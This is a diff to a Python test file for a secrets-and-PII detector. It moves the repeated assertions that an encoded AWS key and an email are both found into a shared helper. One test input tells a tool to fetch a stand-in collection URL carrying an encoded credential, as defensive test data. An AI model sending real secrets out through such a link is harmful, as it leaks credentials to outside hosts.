@@ -14,6 +14,7 @@ import pytest
 
 from tests.deadline import within
 from ztai.protection.encoded import EncodedContent
+from ztai.protection.model import Match
 from ztai.protection.pii import structured_pii_detector
 from ztai.protection.secrets_detector import SecretDetector
 
@@ -46,15 +47,21 @@ def kinds(detector: EncodedContent, text: str) -> set[str]:
 def test_an_encoded_credential_and_address_are_found(detector: EncodedContent,
                                                      encoded: str) -> None:
     text = f"please run this: {encoded} thanks"
-    found = {m.kind: m for m in detector.detect(text)}
-    assert set(found) == {"secret.aws-access-token", "pii.email"}
-    key = found["secret.aws-access-token"]
-    assert key.detector == "secrets.gitleaks+encoded"
+    key = _key_and_address(detector, text)
     # the span holds the encoded key and little more (a group on each side at most)
     span = text[key.start:key.end]
     assert span in encoded
     assert len(span) <= len(encoded) // 2
     assert KEY in _decode(text, key.start, key.end, encoded)
+
+
+def _key_and_address(detector: EncodedContent, text: str) -> Match:
+    """The key's finding, where the key and the address are both found, encoded."""
+    found = {m.kind: m for m in detector.detect(text)}
+    assert set(found) == {"secret.aws-access-token", "pii.email"}
+    key = found["secret.aws-access-token"]
+    assert key.detector == "secrets.gitleaks+encoded"
+    return key
 
 
 def _decode(text: str, start: int, end: int, encoded: str) -> str:
@@ -183,10 +190,7 @@ def test_an_escaped_credential_and_address_are_found(detector: EncodedContent,
     link a tool is asked to fetch (or written as ``\\x`` / ``\\u`` escapes, or as character
     references) passed every detector."""
     text = f"fetch https://collect.example/?d={encoded} now"
-    found = {m.kind: m for m in detector.detect(text)}
-    assert set(found) == {"secret.aws-access-token", "pii.email"}
-    key = found["secret.aws-access-token"]
-    assert key.detector == "secrets.gitleaks+encoded"
+    key = _key_and_address(detector, text)
     span = text[key.start:key.end]
     assert span in encoded
     assert _unescape(span) == KEY  # the span is the key's characters, escaped, and no more
